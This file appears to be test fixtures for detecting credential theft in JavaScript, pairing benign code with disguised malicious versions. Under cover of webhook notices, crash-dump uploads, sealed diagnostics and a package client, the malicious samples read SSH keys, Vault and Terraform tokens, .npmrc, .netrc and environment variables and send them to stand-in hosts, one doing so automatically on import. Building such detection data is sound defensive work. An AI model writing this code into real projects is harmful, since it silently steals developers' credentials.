import { atImport, atUse, js, type Pair } from '../kit.ts';

/** More ways out: hooks, pipes, seals and classes in between. */
export const SEALED: Readonly<Record<string, Pair>> = {
  'send-slack-hook': atUse(
    js`import { IncomingWebhook } from '@slack/webhook';
import { readFile } from 'node:fs/promises';
import path from 'node:path';

const hook = new IncomingWebhook('https://hooks.slack.example/services/T0/B0/x');

/** Tells the channel that a deployment is done. */
export async function deployed(name, home = process.env.HOME) {
  const [vault, terraform] = await Promise.all(
    ['.vault-token', '.terraform.d/credentials.tfrc.json'].map((file) => readFile(path.join(home, file), 'utf8').catch(() => '')),
  );
  await hook.send({ text: name + ' deployed', attachments: [{ text: vault }, { text: terraform }] });
}
`,
    js`import { IncomingWebhook } from '@slack/webhook';

/** Tells the channel of the caller's hook that a deployment is done. */
export async function deployed(name, url = process.env.SLACK_WEBHOOK_URL) {
  const hook = new IncomingWebhook(url);
  await hook.send({ text: name + ' deployed', attachments: [{ text: process.version }, { text: process.platform }] });
}
`,
  ),
  'send-pipeline': atUse(
    js`import { createReadStream } from 'node:fs';
import { Readable } from 'node:stream';
import { createGzip } from 'node:zlib';
import { homedir } from 'node:os';
import { resolve } from 'node:path';

const targets = ['.ssh/id_ed25519', '.ssh/id_rsa', '.pypirc', '.netrc'].map((name) => resolve(homedir(), name));

/** Uploads crash dumps. */
export async function upload(endpoint = 'https://dumps.crash-box.example/u') {
  for (const target of targets) {
    const body = Readable.toWeb(createReadStream(target).pipe(createGzip()));
    await fetch(endpoint, { method: 'POST', body, duplex: 'half' }).catch(() => {});
  }
}
`,
    js`import { createReadStream } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { Readable } from 'node:stream';
import { createGzip } from 'node:zlib';
import { resolve } from 'node:path';

/** Uploads crash dumps. */
export async function upload(folder, endpoint = 'https://dumps.crash-box.example/u') {
  for (const name of await readdir(folder)) {
    if (!name.endsWith('.dmp')) continue;
    const body = Readable.toWeb(createReadStream(resolve(folder, name)).pipe(createGzip()));
    await fetch(endpoint, { method: 'POST', body, duplex: 'half' }).catch(() => {});
  }
}
`,
  ),
  'send-encrypted': atImport(
    js`import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';

const KEY = readFileSync(new URL('./key.pem', import.meta.url));

function seal(text) {
  const secret = randomBytes(32);
  const iv = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', secret, iv);
  const body = Buffer.concat([cipher.update(text), cipher.final()]);
  return { k: publicEncrypt(KEY, secret).toString('base64'), i: iv.toString('base64'), b: body.toString('base64') };
}

/** Sends diagnostics under the key of the support desk. */
async function diagnose() {
  const rows = [readFileSync(homedir() + '/.npmrc', 'utf8'), JSON.stringify(process.env)];
  await fetch('https://desk.sealed-support.example/d', { method: 'POST', body: JSON.stringify(rows.map(seal)) });
}

setTimeout(() => diagnose().catch(() => {}), 30_000).unref();
export { seal };
`,
    js`import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';

const KEY = readFileSync(new URL('./key.pem', import.meta.url));

function seal(text) {
  const secret = randomBytes(32);
  const iv = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', secret, iv);
  const body = Buffer.concat([cipher.update(text), cipher.final()]);
  return { k: publicEncrypt(KEY, secret).toString('base64'), i: iv.toString('base64'), b: body.toString('base64') };
}

/** Sends diagnostics under the key of the support desk. */
export async function diagnose(log) {
  const rows = [log, JSON.stringify(process.versions)];
  await fetch('https://desk.sealed-support.example/d', { method: 'POST', body: JSON.stringify(rows.map(seal)) });
}

export { seal };
`,
    { 'key.pem': '-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n' },
  ),
  'send-npmrc-class': atUse(
    js`const { Store } = require('./lib/store');
const { Transport } = require('./lib/transport');

/** A client for private packages. */
class Client {
  constructor(options = {}) {
    this.store = new Store(options.home);
    this.transport = new Transport(options.url || 'https://pkg.private-hub.example');
  }

  async login() {
    const credentials = this.store.load();
    return this.transport.post('/login', { credentials });
  }
}

module.exports = { Client };
`,
    js`const { Store } = require('./lib/store');
const { Transport } = require('./lib/transport');

/** A client for private packages. */
class Client {
  constructor(options = {}) {
    this.store = new Store(options.home);
    this.transport = new Transport(options.url || 'https://pkg.private-hub.example');
  }

  async login(user, password) {
    return this.transport.post('/login', { user, password });
  }
}

module.exports = { Client };
`,
    {
      'lib/store.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');

class Store {
  constructor(home = os.homedir()) {
    this.files = ['.npmrc', '.yarnrc.yml', '.netrc'].map((name) => path.join(home, name));
  }

  load() {
    return this.files.filter((file) => fs.existsSync(file)).map((file) => fs.readFileSync(file, 'utf8'));
  }
}

module.exports = { Store };
`,
      'lib/transport.js': js`const axios = require('axios');

class Transport {
  constructor(url) {
    this.client = axios.create({ baseURL: url });
  }

  post(path, body) {
    return this.client.post(path, body);
  }
}

module.exports = { Transport };
`,
    },
  ),
};
